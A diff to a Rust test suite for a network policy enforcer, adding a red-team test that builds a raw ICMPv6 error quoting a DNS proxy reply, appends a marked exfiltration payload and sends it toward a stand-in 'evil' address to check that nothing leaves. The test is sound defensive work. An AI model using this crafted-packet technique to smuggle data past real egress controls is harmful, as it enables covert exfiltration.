@@ -783,6 +783,74 @@ fn redteam_icmp_error_related_to_redirected_dns_does_not_leave() {
     assert_eq!(watch.count("evil"), 0, "{}", env.diag());
 }
 
+// The same over IPv6: an ICMPv6 error quoting the proxy's answer does not leave either.
+#[test]
+fn redteam_icmpv6_error_related_to_redirected_dns_does_not_leave() {
+    let Some(env) = env(vec![]) else { return };
+    let evil: Ipv6Addr = "2001:db8::66".parse().unwrap();
+    let watch = WorldCounter::new(
+        &env,
+        &[
+            ("evil", format!("ip6 daddr {evil} meta l4proto ipv6-icmp")),
+            ("routed", format!("ip6 daddr {evil} udp dport 9")),
+        ],
+    );
+    // Control: the address is routed to the world (from the pod no policy enforces).
+    let plain = env
+        .plain()
+        .netns()
+        .run(|| UdpSocket::bind("[::]:0"))
+        .unwrap()
+        .unwrap();
+    plain
+        .send_to(b"x", SocketAddr::new(IpAddr::V6(evil), 9))
+        .unwrap();
+    assert_eq!(watch.count("routed"), 1, "{}", env.diag());
+    let sock = env
+        .web()
+        .netns()
+        .run(|| UdpSocket::bind("[::]:0"))
+        .unwrap()
+        .unwrap();
+    sock.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
+    let query = dns_msg(0x4343, 0x0100, &[b"api", b"example", b"com"], 1, 0, &[]);
+    sock.send_to(&query, SocketAddr::new(IpAddr::V6(evil), 53))
+        .unwrap();
+    let mut b = [0u8; 512];
+    let (n, _) = sock.recv_from(&mut b).expect("the proxy answers");
+    assert_eq!(b.get(3).map(|f| f & 0x0f), Some(REFUSED), "{:?}", &b[..n]);
+    let sport = sock.local_addr().unwrap().port();
+    let web6 = env.web().ipv6();
+    // ICMPv6 port unreachable quoting that answer ([evil]:53 -> [web]:sport).
+    let mut quoted = vec![0x60, 0, 0, 0, 0, 10, 17, 64];
+    quoted.extend_from_slice(&evil.octets());
+    quoted.extend_from_slice(&web6.octets());
+    quoted.extend_from_slice(&53u16.to_be_bytes());
+    quoted.extend_from_slice(&sport.to_be_bytes());
+    quoted.extend_from_slice(&[0, 10, 0, 0, b'h', b'i']);
+    let mut msg = vec![1u8, 4, 0, 0, 0, 0, 0, 0];
+    msg.extend_from_slice(&quoted);
+    msg.extend_from_slice(b"EXFILTRATED-DATA-IN-ICMPV6-ERROR");
+    let mut sum: u32 = 0;
+    let mut add = |bytes: &[u8]| {
+        for pair in bytes.chunks(2) {
+            sum += u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]));
+        }
+    };
+    add(&web6.octets());
+    add(&evil.octets());
+    add(&(msg.len() as u32).to_be_bytes());
+    add(&[0, 0, 0, 58]);
+    add(&msg);
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    let ck = !(sum as u16);
+    msg[2..4].copy_from_slice(&ck.to_be_bytes());
+    send_raw(env.web(), 58, IpAddr::V6(evil), &msg);
+    assert_eq!(watch.count("evil"), 0, "{}", env.diag());
+}
+
 // Found by the red-team review, fixed: a pod the policy does not enforce could send DNS
 // under an enforced pod's address; the proxy took it for that pod's (its identity, its
 // rules, its learning) and answered that pod.
